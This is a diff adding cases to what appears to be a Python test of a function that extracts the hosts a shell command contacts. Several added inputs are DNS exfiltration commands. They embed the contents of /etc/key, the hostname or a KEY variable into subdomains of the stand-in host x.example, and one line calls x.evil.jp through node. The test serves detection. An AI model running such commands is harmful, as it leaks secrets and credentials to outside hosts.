@@ -181,6 +181,15 @@ def test_what_a_line_names(line, hosts):
         ("w32tm /config /manualpeerlist:x.example", ["x.example"]),
         ("Install-Module AWS.Tools.S3", ["install-module.default-source"]),
         ("choco install jq --source C:\\packages", []),
+        # a name that is put together of a message
+        ("dig $(cat /etc/key).x.example", ["$filled.x.example"]),
+        ("nslookup `hostname`.x.example", ["$filled.x.example"]),
+        ("ping -c 1 $KEY.x.example", ["$filled.x.example"]),
+        ("host ${KEY:0:60}.x.example", ["$filled.x.example"]),
+        ("curl -o $NAME.tar.gz https://10.0.0.1/$NAME.tar.gz", ["10.0.0.1"]),
+        ("dig $(hostname)", []),
+        ("java -Dhttps.proxyHost=x.example -jar a.jar", ["x.example"]),
+        ("node -e \"require('https').get({host: 'x.evil.jp'})\"", ["x.evil.jp"]),
         # of a template
         ("{% for h in hosts %}curl {{ h }}{% endfor %}", ["$filled"]),
         ("docker inspect --format '{{.Id}}' a", []),
